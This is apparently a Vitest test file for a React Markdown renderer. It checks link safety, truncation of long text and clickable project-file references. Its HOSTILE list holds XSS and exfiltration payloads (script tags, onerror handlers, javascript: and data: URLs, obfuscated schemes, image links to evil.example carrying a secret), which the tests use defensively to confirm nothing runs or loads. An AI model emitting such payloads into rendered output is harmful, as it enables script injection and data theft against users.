import { render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, test, vi } from 'vitest'

import { Markdown } from './Markdown'
import { FileNames } from './mentions'

/** What models have been made to write, and what else gets through weak filters. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  '![read](https://evil.example/read.png?secret)',
  '![read][r]\n\n[r]: https://evil.example/read.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\u0000script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<video src="https://evil.example/x" autoplay onloadstart="alert(1)"></video>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<img src="https://evil.example/x" onerror="alert(1)">\n```',
  '<details open ontoggle="alert(1)">x</details>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'https://evil.example/unfurled',
  '<file-link path="/etc/passwd" onclick="alert(1)">x</file-link>',
  '[src/App.tsx](javascript:alert(1))',
]
/** Elements that load something by themselves, or run. */
const ACTIVE =
  'script, img, picture, source, video, audio, iframe, object, embed, link, style, svg, math, form, base, meta'

// asvs: 4
test.each(HOSTILE)('%s runs nothing and loads nothing', async (text) => {
  const { container } = render(
    <Markdown
      text={`begin\n\n${text}\n\nend`}
      names={new FileNames(['src/App.tsx'])}
      openFile={() => undefined}
    />,
  )
  // The plain text stands until the reader has come; its paragraphs tell that it has.
  await screen.findByText('end')
  expect(container.querySelectorAll(ACTIVE)).toHaveLength(0)
  for (const element of container.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name, text).not.toMatch(/^on|^style$|^src/)
      if (name === 'href') expect(value, text).toMatch(/^(https?:|mailto:|#|$)/)
    }
  }
})

test('a link goes out without saying where from', async () => {
  render(<Markdown text="[there](https://example.org/x)" />)
  const link = await screen.findByRole('link', { name: 'there' })
  expect(link).toHaveAttribute('rel', 'noreferrer noopener nofollow')
  expect(link).toHaveAttribute('target', '_blank')
})

test('what goes on and on is shown piece by piece', async () => {
  const line = (at: number) => `Line ${at} of many.`
  const text = Array.from({ length: 1_900 }, (_, at) => line(at)).join('\n\n')
  const { rerender } = render(<Markdown text={text} />)
  await screen.findByText(line(1))
  expect(screen.queryByText(line(1_500))).toBeNull()
  // Its end says how it came out.
  expect(screen.getByText(line(1_899))).toBeVisible()
  expect(screen.getByText(/It goes on for 1\d(\.\d)?k more characters/)).toBeVisible()
  await userEvent.click(screen.getByRole('button', { name: 'Show more' }))
  expect(await screen.findByText(line(1_899))).toBeVisible()
  expect(screen.queryByRole('button')).toBeNull()
  // Half of a character is none.
  rerender(<Markdown text={`${'x'.repeat(19_999)}🍅${'x'.repeat(90_000)}`} />)
  expect(screen.queryByText(/\uFFFD/)).toBeNull()
})

describe('a file of the project', () => {
  const names = new FileNames(['src/App.tsx', 'src/lib/time.ts'])
  const show = (text: string) => {
    const openFile = vi.fn()
    const { container } = render(<Markdown text={text} names={names} openFile={openFile} />)
    return { openFile, container }
  }

  test.each([
    ['It begins in src/App.tsx:12.', 'src/App.tsx:12', ['src/App.tsx', 12]],
    ['It begins in `src/App.tsx:12`.', 'src/App.tsx:12', ['src/App.tsx', 12]],
    ['See [the clock](src/lib/time.ts#L3).', 'the clock', ['src/lib/time.ts', 3]],
    ['- **time.ts** keeps it', 'time.ts', ['src/lib/time.ts', undefined]],
  ])('is opened from “%s”', async (text, name, spot) => {
    const { openFile, container } = show(text)
    await userEvent.click(await screen.findByRole('button', { name }))
    expect(openFile).toHaveBeenCalledExactlyOnceWith(...spot)
    expect(container.querySelectorAll('a')).toHaveLength(0)
  })

  test('is not one in a listing, and another path is none', async () => {
    show('`src/Gone.tsx` and\n\n```\nimport "src/App.tsx"\n```\n\nend')
    await screen.findByText('end')
    expect(screen.queryByRole('button')).toBeNull()
  })
})
